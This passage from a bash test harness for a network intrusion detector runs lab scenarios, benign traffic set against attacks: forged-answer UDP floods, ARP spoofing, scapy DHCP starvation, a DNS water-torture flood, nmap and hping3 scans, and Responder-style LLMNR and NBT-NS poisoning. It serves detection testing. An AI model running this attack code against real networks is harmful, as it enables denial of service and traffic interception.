		inns pc2 ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes -i "$tmp/pc_key" \
			"root@$NET.$h" 'uname -r; df -P /' >/dev/null 2>&1 || true
	done
	for h in $(seq -f 'h%g' 100 124); do local p; for p in $(ip netns pids "$P-$h"); do grep -qa sshd /proc/$p/cmdline 2>/dev/null && kill "$p"; done; done
}
# A monitoring server (PC2) polling 30 agents with snmpget every 5 s (uptime
# and an interface counter) and walking their ifInOctets every 30 s, 60 s.
scn_benign_snmp_poll_5s() {
	start_snmp_agents
	local r h
	for r in $(seq 0 11); do
		for h in $(seq 100 129); do
			inns pc2 snmpget -v2c -c public -t 1 -r 1 "$NET.$h" 1.3.6.1.2.1.1.3.0 1.3.6.1.2.1.2.2.1.10.1 >/dev/null 2>&1 || true
			((r % 6)) || inns pc2 snmpwalk -v2c -c public -t 1 -r 1 "$NET.$h" 1.3.6.1.2.1.2.2.1.10 >/dev/null 2>&1 || true
		done
		sleep 5
	done
	stop_snmp_agents
}
# A multicast stream: an encoder (the NAS) sending MPEG-TS over UDP (seven
# 188-byte packets a datagram, 1,316 bytes) to 239.255.1.1:5004 at 8 Mbit/s
# (760 datagrams a second) for 10 s; five receivers join the group (IGMPv3
# reports from their kernels) and never answer.
cat >"$tmp/mcast.py" <<'EOF'
import socket, struct, sys, time
grp, port = "239.255.1.1", 5004
if sys.argv[1] == "recv":
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind(("", port))
    s.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton(grp) + socket.inet_aton("0.0.0.0"))
    t0 = time.time()
    s.settimeout(1)
    while time.time() - t0 < float(sys.argv[2]):
        try: s.recv(2048)
        except socket.timeout: pass
    sys.exit()
rate, secs = float(sys.argv[2]), float(sys.argv[3])
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 4)
t0, n = time.time(), 0
while time.time() - t0 < secs:
    ts = b"".join(struct.pack("!BHB", 0x47, 0x100, 0x10 | (n + i) & 15) + bytes(184) for i in range(7)) # TS packets, PID 256
    s.sendto(ts, (grp, port)); n += 1
    ahead = n / rate - (time.time() - t0)
    if ahead > 0: time.sleep(ahead)
EOF
scn_benign_multicast_stream() {
	local h w=()
	for h in h100 h101 h102 h103 h104; do inns "$h" "$py" "$tmp/mcast.py" recv 14 & w+=($!); done
	sleep 2
	inns nas "$py" "$tmp/mcast.py" send 760 10
	wait "${w[@]}" || true
}
# One-way bulk UDP between two hosts at a high packet rate: a speed test's
# or a backup's shape. A python sender (PC) sends the NAS numbered 1,400-byte
# datagrams, 6,000 a second for 5 s; in the first the receiver sends a
# report back once a second (iperf3's and udpcast's feedback), in the second
# it never answers.
cat >"$tmp/bulk.py" <<'EOF'
import socket, struct, sys, time
if sys.argv[1] == "recv": # PORT SECS REPLY: count, and report to the sender every 256 datagrams and every second if REPLY
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("", int(sys.argv[2]))); s.settimeout(0.2)
    t0, last, n, told, peer = time.time(), time.time(), 0, 0, None
    while time.time() - t0 < float(sys.argv[3]):
        try: _, peer = s.recvfrom(2048); n += 1
        except socket.timeout: pass
        if sys.argv[4] == "1" and peer and (n - told >= 256 or time.time() - last >= 1): s.sendto(struct.pack("!IQ", 1, n), peer); last, told = time.time(), n
    sys.exit()
dst, port, rate, secs = sys.argv[2], int(sys.argv[3]), float(sys.argv[4]), float(sys.argv[5])
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("", port))
t0, n, blk = time.time(), 0, bytes(range(256)) * 6
while time.time() - t0 < secs:
    for _ in range(10):
        s.sendto(struct.pack("!IQ", 0, n) + blk[:1388], (dst, port)); n += 1
    ahead = n / rate - (time.time() - t0)
    if ahead > 0: time.sleep(ahead)
EOF
bulk_udp() {
	inns nas "$py" "$tmp/bulk.py" recv 9000 9 "$1" & local r=$!
	sleep 1
	inns pc "$py" "$tmp/bulk.py" send "$nas" 9000 6000 5
	wait "$r" || true
}
scn_benign_bulk_udp_reports() { bulk_udp 1; }
scn_benign_bulk_udp_silent() { bulk_udp 0; }
# A user's SSH agent holding eight identities, the one the NAS accepts
# added last: OpenSSH offers them in turn and sshd (MaxAuthTries 6) ends the
# connection after six refusals; retried three times in two minutes, then
# with -o IdentitiesOnly=yes and the right key, twice.
scn_benign_ssh_agent_keys() {
	start_services
	local i k=()
	for i in $(seq 1 7); do ssh-keygen -q -t ed25519 -N '' -f "$tmp/agent$i"; k+=("$tmp/agent$i"); done
	inns pc bash -c 'eval "$(ssh-agent -s)" >/dev/null; for f in "$@"; do ssh-add -q "$f" 2>/dev/null; done
		o="-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes"
		for i in 1 2 3; do ssh $o root@'"$nas"' uptime; sleep 35; done
		for i in 1 2; do ssh $o -o IdentitiesOnly=yes -i '"$tmp/pc_key"' root@'"$nas"' uptime; sleep 20; done
		ssh-agent -k' _ "${k[@]}" "$tmp/pc_key" >/dev/null 2>&1 || true
	stop_services
}
# A monitoring system's silent SSH checks: Nagios's check_ssh (its banner,
# the server's, close) on the NAS and five quiet hosts every 30 s, 3 min.
scn_benign_ssh_banner_checks() {
	start_services
	sed '/^ListenAddress/d' "$tmp/sshd_config" >"$tmp/sshd_any"
	local h r
	for h in h100 h101 h102 h103 h104; do spawn "$h" /usr/sbin/sshd -D -f "$tmp/sshd_any" -E "$tmp/sshd-$h.log"; done
	sleep 2
	for r in $(seq 7); do
		for h in "$nas" $(seq -f "$NET.%g" 100 104); do inns pc2 /usr/lib/nagios/plugins/check_ssh -H "$h" -t 5 >/dev/null 2>&1 || true; done
		sleep 30
	done
	for h in h100 h101 h102 h103 h104; do local p; for p in $(ip netns pids "$P-$h"); do grep -qa sshd /proc/$p/cmdline 2>/dev/null && kill "$p"; done; done
	stop_services
}
# A one-way UDP flood (hping3 -2 --flood, one flow, 2 s) whose "answers"
# are forged: scapy on the attacker sends UDP from the NAS's address back to
# itself, from its own MAC, 500 a second from before the flood starts, to
# earn the one-way flood's exemption (the target answering).
scn_udp_flood_forged_answers_scapy() {
	(sleep 4; inns evil timeout 2 hping3 -q -2 -s 5004 -k -p 5004 --flood "$nas" >/dev/null 2>&1) & local f=$!
	scapy evil 's = conf.L2socket(iface="eth0")
f = bytes(Ether(src=mac, dst=mac)/IP(src="'$nas'", dst="'$NET.66'")/UDP(sport=5004, dport=5004)/Raw(b"ok"))
t0, n = time.time(), 0
while time.time() - t0 < 7:
    s.send(f); n += 1
    time.sleep(max(0, n / 500 - (time.time() - t0)))'
	wait "$f" || true
}

# Session 18 (issue 14): a flood its target answers datagram for datagram.
# A UDP echo service (RFC 862, python) on the NAS's port 7 answers every
# datagram of hping3's one-flow flood (-s 5004 -k, -i u40 for 3 s: what the loaded lab sends of 25,000 a second):
# answered, but a request/response exchange at a flood's rate, no transfer.
scn_udp_flood_echo_answered_hping3() {
	cat >"$tmp/echo.py" <<'EOF'
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind(("0.0.0.0", 7))
while True:
    b, a = s.recvfrom(2048)
    s.sendto(b, a)
EOF
	spawn nas "$py" "$tmp/echo.py"; sleep 1
	inns evil timeout 3 hping3 -q -2 -s 5004 -k -p 7 -i u40 "$nas" >/dev/null 2>&1 || true
	local p; for p in $(ip netns pids "$P-nas"); do grep -qa echo.py /proc/$p/cmdline 2>/dev/null && kill "$p"; done
}
# A power cut bringing back 60 IoT devices (cameras, sensors): each a full
# DISCOVER/OFFER/REQUEST/ACK as the boot storm's clients (iotc.py below),
# then, a third each, IPv6 router solicitations alone (no IPv4 beyond
# DHCP), UDP or TCP to a cloud address from its leased address through the
# gateway's MAC (taken from the server's frames); never an ARP: no address
# configured on the interface, every frame sent raw.
sed -e 's/^subprocess.run(\["ip", "addr".*$/gw = p[Ether].src/' -e '/^subprocess.run(\["ping"/d' "$tmp/dhcpc.py" >"$tmp/iotc.py"
cat >>"$tmp/iotc.py" <<'EOF'
cloud = "203.0.113.%d" % random.randint(10, 20)
kind = int(mac[-2:], 16) % 3
for i in range(6):
    if kind == 0: # a third only solicit an IPv6 router from their link-local address, never IPv4 beyond DHCP
        s.send(Ether(src=mac, dst="33:33:00:00:00:02")/IPv6(src=in6_mactoifaceid(mac).join(["fe80::", ""]), dst="ff02::2")/ICMPv6ND_RS())
    elif kind == 1: # a third report over UDP (CoAP)
        s.send(Ether(src=mac, dst=gw)/IP(src=addr, dst=cloud)/UDP(sport=40000 + i, dport=5683)/Raw(b"\x40\x01\x00\x01status"))
    else: # a third open TCP to the cloud (MQTT over TLS)
        s.send(Ether(src=mac, dst=gw)/IP(src=addr, dst=cloud)/TCP(sport=40000 + i, dport=8883, flags="S", seq=random.getrandbits(32)))
    time.sleep(random.uniform(2, 5))
EOF
scn_benign_iot_power_cut_scapy() {
	local i ns ouis=(00:12:41 ec:71:db 9c:8e:cd 44:19:b6 b0:c5:54 00:40:8c) w=()
	pkill_gw_dnsmasq
	spawn gw dnsmasq -k --no-resolv --no-hosts --interface=eth0 --bind-interfaces --port=0 \
		--dhcp-range=$NET.130,$NET.250,1h --dhcp-option=3,$NET.1 --dhcp-leasefile="$tmp/iot.leases"
	for i in $(seq 1 60); do
		ns=$P-c$i
		ip netns add "$ns"
		ip -n "$SW" link add "c$i" type veth peer name eth0 netns "$ns" address "${ouis[i % 6]}:00:04:$(printf %02x "$i")"
		ip -n "$ns" link set lo up
		ip -n "$ns" link set eth0 up
		ip -n "$ns" link set eth0 arp off # never an ARP, nor an answer to one
		ip -n "$SW" link set "c$i" master br0 up
		ip netns exec "$ns" "$py" "$tmp/iotc.py" "$tmp/iot-go" "$tmp/iot-ready$i" >/dev/null 2>&1 & w+=($!)
	done
	open_gate iot 60 "${w[@]}"
	wait "${w[@]}" || true
	for i in $(seq 1 60); do ip netns del "$P-c$i"; done
	pkill_gw_dnsmasq
	start_gw_dnsmasq
}

# A bulk-looking flood at a quiet host with no ARP binding yet (.100):
# scapy on the attacker first claims .100 in gratuitous ARP from a second
# MAC of its own, then sends "reports" under .100's address from that MAC,
# 20 a second, while hping3 floods .100 in full frames from one flow
# (-d 1400 -s 5004 -k -i u40): the claim must not make that MAC the one
# answers count from.
scn_udp_flood_garp_before_scapy() {
	(sleep 4; inns evil timeout 3 hping3 -q -2 -d 1400 -s 5004 -k -p 5004 -i u40 "$NET.100" >/dev/null 2>&1) & local f=$!
	scapy evil 's = conf.L2socket(iface="eth0")
m2 = "02:66:66:00:00:02"
s.send(Ether(src=m2, dst="ff:ff:ff:ff:ff:ff")/ARP(op=2, hwsrc=m2, psrc="'$NET.100'", hwdst="ff:ff:ff:ff:ff:ff", pdst="'$NET.100'"))
time.sleep(1)
r = bytes(Ether(src=m2, dst=mac)/IP(src="'$NET.100'", dst="'$NET.66'")/UDP(sport=5004, dport=5004)/Raw(b"ack-000000"))
t0, n = time.time(), 0
while time.time() - t0 < 8:
    s.send(r); n += 1
    time.sleep(max(0, n / 20 - (time.time() - t0)))'
	wait "$f" || true
}

# A flood of full frames at a DNS server (dnsmasq on the NAS) from one
# flow (hping3 -2 -d 1400 -s 5004 -k -p 53 -i u40) with a real query for
# a name the server answers sent on the same flow by scapy, 20 a second
# (once per 300 datagrams): the server's answers are replies, not a
# transfer's feedback.
scn_udp_flood_dns_triggered_hping3() {
	spawn nas dnsmasq -k --no-resolv --no-hosts --port=53 --listen-address=$nas --bind-interfaces --address=/printer.lab/$nas
	sleep 1
	(sleep 2; inns evil timeout 3 hping3 -q -2 -d 1400 -s 5004 -k -p 53 -i u40 "$nas" >/dev/null 2>&1) & local f=$!
	scapy evil 's = conf.L2socket(iface="eth0")
gw = getmacbyip("'$nas'")
q = bytes(Ether(src=mac, dst=gw)/IP(src="'$NET.66'", dst="'$nas'")/UDP(sport=5004, dport=53)/DNS(rd=1, qd=DNSQR(qname="printer.lab")))
t0, n = time.time(), 0
while time.time() - t0 < 7:
    s.send(q); n += 1
    time.sleep(max(0, n / 20 - (time.time() - t0)))'
	wait "$f" || true
	local p; for p in $(ip netns pids "$P-nas"); do grep -qa dnsmasq /proc/$p/cmdline 2>/dev/null && kill "$p"; done
}

# A many-flow UDP flood (hping3 -2 -p 5004 -i u400: a new source port a
# datagram, about 2,500 a second) at the NAS while the NAS streams UDP to
# the PC at the same rate (hping3 -2 -p 5006 -i u400 from the NAS): what
# the target sends a third host serves none of the fan-in.
scn_udp_fanin_target_streams_hping3() {
	(inns nas timeout 5 hping3 -q -2 -s 5006 -k -p 5006 -d 200 -i u400 "$NET.10" >/dev/null 2>&1) & local s=$!
	sleep 1
	inns evil timeout 3 hping3 -q -2 -p 5004 -i u400 "$nas" >/dev/null 2>&1 || true
	wait "$s" || true
}

# Session 19 (issue 14): a flood its target echoes from a port of its own.
# A UDP echo responder (python) on the NAS's unlisted port 9999 sends back
# every datagram of hping3's one-flow flood (-s 5004 -k -p 9999 --flood
# for 3 s): answered in kind, the stream's own datagrams, which make no stream
# two-way. Its twin: python at the same pace and port, the NAS answering
# each datagram with one of its own (a counter and its own bytes, as a
# tunnel's far end or a game server does): two-way, quiet.
scn_udp_flood_echo_highport_hping3() {
	cat >"$tmp/echo9999.py" <<'EOF'
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind(("0.0.0.0", 9999))
while True:
    b, a = s.recvfrom(2048)
    s.sendto(b, a)
EOF
	spawn nas "$py" "$tmp/echo9999.py"; sleep 1
	inns evil timeout 3 hping3 -q -2 -s 5004 -k -p 9999 --flood "$nas" >/dev/null 2>&1 || true
	local p; for p in $(ip netns pids "$P-nas"); do grep -qa echo9999.py /proc/$p/cmdline 2>/dev/null && kill "$p"; done
}
cat >"$tmp/twoway.py" <<'EOF'
import os, socket, struct, sys, time
if sys.argv[1] == "serve": # answer each datagram with one of our own, as long
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("", 9999)); n, own = 0, os.urandom(1400)
    while True:
        b, a = s.recvfrom(2048); n += 1
        s.sendto(struct.pack("!IQ", 2, n) + own[:len(b) - 12], a)
dst, rate, secs = sys.argv[2], float(sys.argv[3]), float(sys.argv[4])
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("", 40000)); s.setblocking(False)
t0, n, blk = time.time(), 0, os.urandom(1400)
while time.time() - t0 < secs:
    for _ in range(10):
        s.sendto(struct.pack("!IQ", 1, n) + blk[:1188], (dst, 9999)); n += 1
    try:
        while s.recv(2048): pass
    except BlockingIOError: pass
    ahead = n / rate - (time.time() - t0)
    if ahead > 0: time.sleep(ahead)
EOF
scn_benign_udp_two_way_highport_python() {
	spawn nas "$py" "$tmp/twoway.py" serve; sleep 1
	inns pc "$py" "$tmp/twoway.py" send "$nas" 6000 3 || true
	local p; for p in $(ip netns pids "$P-nas"); do grep -qa twoway.py /proc/$p/cmdline 2>/dev/null && kill "$p"; done
}

# Session 19 (issue 14): starvation by a tool that completes the exchange.
# scapy on the attacker asks the gateway's dnsmasq (its pool widened to
# .130-.250) for a lease from each of 60 random MACs (frame source and
# chaddr, broadcast flag), DISCOVER, the OFFER, REQUEST, the ACK (each
# retransmitted as RFC 2131 4.1 says, a NAK starting over), all within
# seconds, then sends from each forged MAC one sign of a stack: an
# ARP probe of the address the ACK gave (even MACs) or an IPv6 router
# solicitation carrying the MAC (odd), and nothing more. Its twin: 60
# clients, each its own namespace with ARP off, the same exchange
# (dhcpc.py), then RFC 5227's three probes of the lease 1 to 2 s apart, and
# nothing more (a device waiting for its configuration): quiet.
scn_dhcp_starvation_dora_probe_scapy() {
	pkill_gw_dnsmasq
	spawn gw dnsmasq -k --no-resolv --no-hosts --interface=eth0 --bind-interfaces --port=0 \
		--dhcp-range=$NET.130,$NET.250,1h --dhcp-option=3,$NET.1 --dhcp-leasefile="$tmp/dora.leases"
	sleep 1
	scapy evil 'import random, select
s = conf.L2socket(iface="eth0", filter="udp and dst port 68")
def ask(m, x, typ, extra=[]):
    s.send(Ether(src=m, dst="ff:ff:ff:ff:ff:ff")/IP(src="0.0.0.0", dst="255.255.255.255")/UDP(sport=68, dport=67)/
           BOOTP(chaddr=mac2str(m), xid=x, flags=0x8000)/DHCP(options=[("message-type", typ)] + extra + ["end"]))
clients = {}
for i in range(60):
    m = "02:%02x:%02x:%02x:%02x:%02x" % tuple(random.getrandbits(8) for _ in range(5))
    x = random.getrandbits(32)
    clients[x] = {"mac": m, "state": "discover", "at": time.time()}
    ask(m, x, "discover"); time.sleep(0.02)
t0 = time.time()
while time.time() - t0 < 40 and any(c["state"] != "done" for c in clients.values()):
    for x, c in clients.items(): # RFC 2131 4.1: retransmit what went unanswered
        if c["state"] == "discover" and time.time() - c["at"] > 4: ask(c["mac"], x, "discover"); c["at"] = time.time()
        if c["state"] == "request" and time.time() - c["at"] > 4: ask(c["mac"], x, "request", c["opts"]); c["at"] = time.time()
    if not select.select([s], [], [], 0.2)[0]: continue
    p = s.recv()
    if p is None or not p.haslayer(DHCP) or p[BOOTP].xid not in clients: continue
    c, t = clients[p[BOOTP].xid], dict(o for o in p[DHCP].options if isinstance(o, tuple))
    if t.get("message-type") == 2 and c["state"] == "discover":
        c["state"], c["at"], c["opts"] = "request", time.time(), [("requested_addr", p[BOOTP].yiaddr), ("server_id", t["server_id"])]
        ask(c["mac"], p[BOOTP].xid, "request", c["opts"])
    elif t.get("message-type") == 6 and c["state"] == "request": # a NAK: back to DISCOVER
        c["state"], c["at"] = "discover", time.time(); ask(c["mac"], p[BOOTP].xid, "discover")
    elif t.get("message-type") == 5 and c["state"] == "request":
        c["state"] = "done"; m, a = c["mac"], p[BOOTP].yiaddr
        if int(m[-2:], 16) % 2 == 0:
            s.send(Ether(src=m, dst="ff:ff:ff:ff:ff:ff")/ARP(op=1, hwsrc=m, psrc="0.0.0.0", hwdst="00:00:00:00:00:00", pdst=a))
        else:
            s.send(Ether(src=m, dst="33:33:00:00:00:02")/IPv6(src=in6_mactoifaceid(m).join(["fe80::", ""]), dst="ff02::2")/ICMPv6ND_RS()/ICMPv6NDOptSrcLLAddr(lladdr=m))
print(sum(c["state"] == "done" for c in clients.values()), "leases")
time.sleep(22)'
	pkill_gw_dnsmasq
	start_gw_dnsmasq
}
sed -e 's/^subprocess.run(\["ip", "addr".*$/gw = p[Ether].src/' -e '/^subprocess.run(\["ping"/d' "$tmp/dhcpc.py" >"$tmp/probec.py"
cat >>"$tmp/probec.py" <<'EOF'
time.sleep(random.uniform(0, 1)) # RFC 5227 2.1.1: PROBE_WAIT, then PROBE_NUM probes PROBE_MIN to PROBE_MAX apart
for i in range(3):
    s.send(Ether(src=mac, dst="ff:ff:ff:ff:ff:ff")/ARP(op=1, hwsrc=mac, psrc="0.0.0.0", hwdst="00:00:00:00:00:00", pdst=addr))
    time.sleep(random.uniform(1, 2))
EOF
scn_benign_dhcp_storm_probing_scapy() {
	local i w=()
	pkill_gw_dnsmasq
	spawn gw dnsmasq -k --no-resolv --no-hosts --interface=eth0 --bind-interfaces --port=0 \
		--dhcp-range=$NET.130,$NET.250,1h --dhcp-option=3,$NET.1 --dhcp-leasefile="$tmp/probe.leases"
	bare_clients c 60 00:05 00:12:41 ec:71:db 9c:8e:cd 44:19:b6 b0:c5:54 00:40:8c
	for i in $(seq 300); do inns gw ss -Hlun 'sport = :67' | grep -q . && break; sleep 0.1; done # dnsmasq answers from the first DISCOVER
	for i in $(seq 1 60); do
		ip -n "$P-c$i" link set eth0 arp off
		ip netns exec "$P-c$i" "$py" "$tmp/probec.py" "$tmp/probe-go" "$tmp/probe-ready$i" >/dev/null 2>&1 & w+=($!)
	done
	open_gate probe 60 "${w[@]}"
	wait "${w[@]}" || true
	sleep 22
	for i in $(seq 1 60); do ip netns del "$P-c$i"; done
	pkill_gw_dnsmasq
	start_gw_dnsmasq
}

# Session 19 (issue 14): a flood from NFS's port at a DNS server. hping3
# sends dnsmasq on the NAS a real query (printer.lab, from a file: -E) from
# source port 2049 (-s 2049 -k -p 53 --flood, 3 s); dnsmasq answers each it
# reads: a service's replies, however NFS-like the flood's source port.
scn_udp_flood_nfs_port_dns_hping3() {
	spawn nas dnsmasq -k --no-resolv --no-hosts --port=53 --listen-address=$nas --bind-interfaces --address=/printer.lab/$nas
	"$py" -c 'import sys; from scapy.all import DNS, DNSQR; sys.stdout.buffer.write(bytes(DNS(id=7, rd=1, qd=DNSQR(qname="printer.lab"))))' >"$tmp/query.bin"
	sleep 1
	inns evil timeout 3 hping3 -q -2 -s 2049 -k -p 53 -E "$tmp/query.bin" -d "$(stat -c %s "$tmp/query.bin")" --flood "$nas" >/dev/null 2>&1 || true
	local p; for p in $(ip netns pids "$P-nas"); do grep -qa dnsmasq /proc/$p/cmdline 2>/dev/null && kill "$p"; done
}
# The same tool as dhcp_starvation_dora_probe_scapy, 60 random locally
# administered MACs each completing the exchange, but each then probing
# its lease as RFC 5227 2.1.1 times it (three probes, PROBE_MIN to
# PROBE_MAX, 1 to 2 s, apart at random) and nothing more: what the
# boot-storm fixture's devices send (session 21).
scn_dhcp_starvation_rfc5227_probe_scapy() {
	pkill_gw_dnsmasq
	spawn gw dnsmasq -k --no-resolv --no-hosts --interface=eth0 --bind-interfaces --port=0 \
		--dhcp-range=$NET.130,$NET.250,1h --dhcp-option=3,$NET.1 --dhcp-leasefile="$tmp/dora.leases"
	sleep 1
	scapy evil 'import random, select
s = conf.L2socket(iface="eth0", filter="udp and dst port 68")
def ask(m, x, typ, extra=[]):
    s.send(Ether(src=m, dst="ff:ff:ff:ff:ff:ff")/IP(src="0.0.0.0", dst="255.255.255.255")/UDP(sport=68, dport=67)/
           BOOTP(chaddr=mac2str(m), xid=x, flags=0x8000)/DHCP(options=[("message-type", typ)] + extra + ["end"]))
clients, probes = {}, []
for i in range(60):
    m = "02:%02x:%02x:%02x:%02x:%02x" % tuple(random.getrandbits(8) for _ in range(5))
    x = random.getrandbits(32)
    clients[x] = {"mac": m, "state": "discover", "at": time.time()}
    ask(m, x, "discover"); time.sleep(0.02)
t0 = time.time()
while time.time() - t0 < 40 and (probes or any(c["state"] != "done" for c in clients.values())):
    for x, c in clients.items(): # RFC 2131 4.1: retransmit what went unanswered
        if c["state"] == "discover" and time.time() - c["at"] > 4: ask(c["mac"], x, "discover"); c["at"] = time.time()
        if c["state"] == "request" and time.time() - c["at"] > 4: ask(c["mac"], x, "request", c["opts"]); c["at"] = time.time()
    for pr in [pr for pr in probes if pr[0] <= time.time()]: # RFC 5227 2.1.1: PROBE_NUM probes, PROBE_MIN to PROBE_MAX apart
        probes.remove(pr); due, m, a, left = pr
        s.send(Ether(src=m, dst="ff:ff:ff:ff:ff:ff")/ARP(op=1, hwsrc=m, psrc="0.0.0.0", hwdst="00:00:00:00:00:00", pdst=a))
        if left > 1: probes.append((time.time() + random.uniform(1, 2), m, a, left - 1))
    if not select.select([s], [], [], 0.05)[0]: continue
    p = s.recv()
    if p is None or not p.haslayer(DHCP) or p[BOOTP].xid not in clients: continue
    c, t = clients[p[BOOTP].xid], dict(o for o in p[DHCP].options if isinstance(o, tuple))
    if t.get("message-type") == 2 and c["state"] == "discover":
        c["state"], c["at"], c["opts"] = "request", time.time(), [("requested_addr", p[BOOTP].yiaddr), ("server_id", t["server_id"])]
        ask(c["mac"], p[BOOTP].xid, "request", c["opts"])
    elif t.get("message-type") == 6 and c["state"] == "request": # a NAK: back to DISCOVER
        c["state"], c["at"] = "discover", time.time(); ask(c["mac"], p[BOOTP].xid, "discover")
    elif t.get("message-type") == 5 and c["state"] == "request":
        c["state"] = "done"
        probes.append((time.time() + random.uniform(0, 1), c["mac"], p[BOOTP].yiaddr, 3)) # PROBE_WAIT
print(sum(c["state"] == "done" for c in clients.values()), "leases")
time.sleep(22)'
	pkill_gw_dnsmasq
	start_gw_dnsmasq
}

# A random-subdomain ("water torture") flood at the NAS's dnsmasq, which
# holds the zone victim.lab (--local: NXDOMAIN for any name not in it):
# python from one socket on the attacker, 2,000 queries a second for 6 s,
# each a fresh random label of 6 to 12 letters and digits under victim.lab
# and a random ID, reading the answers as they come (session 21).
scn_dns_water_torture_python() {
	spawn nas dnsmasq -k --no-resolv --no-hosts --port=53 --listen-address=$nas --bind-interfaces --local=/victim.lab/ --address=/printer.lab/$nas
	sleep 1
	inns evil "$py" -c 'import random, socket, string, struct, time
abc = (string.ascii_lowercase + string.digits).encode()
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("", 40053)); s.setblocking(False)
t0, n = time.time(), 0
while time.time() - t0 < 6:
    label = bytes(random.choice(abc) for _ in range(random.randint(6, 12)))
    q = struct.pack(">6H", random.getrandbits(16), 0x0100, 1, 0, 0, 0) + bytes([len(label)]) + label + b"\x06victim\x03lab\x00\x00\x01\x00\x01"
    s.sendto(q, ("'$nas'", 53)); n += 1
    try:
        while True: s.recv(512)
    except BlockingIOError: pass
    time.sleep(max(0, n / 2000 - (time.time() - t0)))'
	local p; for p in $(ip netns pids "$P-nas"); do grep -qa dnsmasq /proc/$p/cmdline 2>/dev/null && kill "$p"; done
}
# Session 24 (det24b): the same attacks from other tools and options, the
# shapes a pen-tester's defaults make.
scn_nmap_sZ() { inns evil nmap -sZ -Pn -n -T4 -p 1-100 "$nas"; }
scn_nmap_sn_PP() { inns evil nmap -sn -n --send-ip -PP "$NET.96/27"; }
scn_nmap_sn_PM() { inns evil nmap -sn -n --send-ip -PM "$NET.96/27"; }
scn_nmap_sn_PS() { inns evil nmap -sn -n --send-ip -PS "$NET.96/27"; }
scn_nmap_sn_PA() { inns evil nmap -sn -n --send-ip -PA "$NET.96/27"; }
scn_nmap_sn_PU() { inns evil nmap -sn -n --send-ip -PU "$NET.96/27"; }
scn_nmap_sn_default_ip() { inns evil nmap -sn -n --send-ip "$NET.96/27"; }
scn_nmap_randomize_hosts() { inns evil nmap -sS -n -T4 --randomize-hosts --top-ports 5 "$NET.96/27"; }
scn_nmap_source_port_53() { inns evil nmap -sS -Pn -n -T4 --source-port 53 -p 1-100 "$nas"; }
scn_nmap_mtu8() { inns evil nmap -sS -Pn -n -T4 --mtu 8 -p 1-100 "$nas"; }
scn_nmap_sU_default() { inns evil nmap -sU -Pn -n -T4 --top-ports 30 "$nas"; }
scn_nmap_T3_default() { inns evil nmap -Pn -n "$nas"; }
scn_nmap_sT_top() { inns evil nmap -sT -Pn -n "$nas"; }
scn_nmap_T0_fewer() { inns evil timeout 40 nmap -sS -Pn -n -T1 -p 21,22,23,80,443 "$nas"; }
scn_hping_ack_flood() { inns evil timeout 3 hping3 -q -A -p 80 -i u500 "$nas"; }
scn_hping_ack_randsrc_flood() { inns evil timeout 3 hping3 -q -A -p 80 --rand-source -i u500 "$nas"; }
scn_hping_ackpsh_data_flood() { inns evil timeout 3 hping3 -q -A -P -d 120 -p 443 -i u500 "$nas"; }
scn_hping_fin_flood() { inns evil timeout 3 hping3 -q -F -p 80 -i u500 "$nas"; }
scn_hping_xmas_flood() { inns evil timeout 3 hping3 -q -F -S -R -P -A -U -X -Y -p 80 -i u500 "$nas"; }
scn_hping_syn_randsrc() { inns evil timeout 3 hping3 -q -S -p 80 --rand-source -i u500 "$nas"; }
scn_hping_scan_mode() { inns evil hping3 --scan 1-200 -S "$nas"; }
scn_hping_syn_incport_fin() { inns evil timeout 4 hping3 -q -F -p ++1 -i u10000 "$nas"; }
scn_hping_udp_frag() { inns evil timeout 3 hping3 -q -2 -p 53 -d 1200 --frag -i u1000 "$nas"; }
scn_hping_icmp_big() { inns evil timeout 3 hping3 -q -1 -d 1400 -i u1000 "$nas"; }
scn_nping_tcp_connect() { inns evil nping --tcp-connect -p 1-100 --rate 200 -c 1 "$nas"; }
scn_responder_llmnr6() {
	# Responder's LLMNR answers over IPv6: the PC asks ff02::1:3 for three names, evil answers each with an AAAA of its own.
	spawn evil "$py" -c 'from scapy.all import *
conf.verb = 0
def ans(p):
    if p.haslayer(LLMNRQuery) and p[IPv6].src != "fe80::ba27:ebff:fe00:66" and p[LLMNRQuery].qr == 0:
        q = p[LLMNRQuery].qd.qname
        sendp(Ether(dst=p[Ether].src)/IPv6(src="fe80::ba27:ebff:fe00:66", dst=p[IPv6].src, hlim=1)/UDP(sport=5355, dport=p[UDP].sport)/
              LLMNRResponse(id=p[LLMNRQuery].id, qd=DNSQR(qname=q, qtype="AAAA"), an=DNSRR(rrname=q, type="AAAA", rdata="fe80::ba27:ebff:fe00:66", ttl=30)), iface="eth0")
sniff(iface="eth0", filter="udp port 5355 and ip6", prn=ans, timeout=8)'
	sleep 1
	scapy pc 'for i, n in enumerate(["filesrv", "printer2", "intranet"]):
    sendp(Ether(dst="33:33:00:01:00:03")/IPv6(src="fe80::3e52:82ff:fe00:10", dst="ff02::1:3", hlim=1)/UDP(sport=50100+i, dport=5355)/
          LLMNRQuery(id=300+i, qd=DNSQR(qname=n, qtype="AAAA")), iface="eth0")
    time.sleep(0.5)'
	sleep 6
}
scn_responder_wpad_nbns() {
	# Responder's WPAD answer over NBT-NS: the PC broadcasts a name query for WPAD, evil answers with its address.
	spawn evil "$py" -c 'from scapy.all import *
conf.verb = 0
def ans(p):
    if p.haslayer(NBNSQueryRequest) and p[IP].src != "'$NET.66'":
        q = p[NBNSQueryRequest]
        sendp(Ether(dst=p[Ether].src)/IP(src="'$NET.66'", dst=p[IP].src)/UDP(sport=137, dport=p[UDP].sport)/
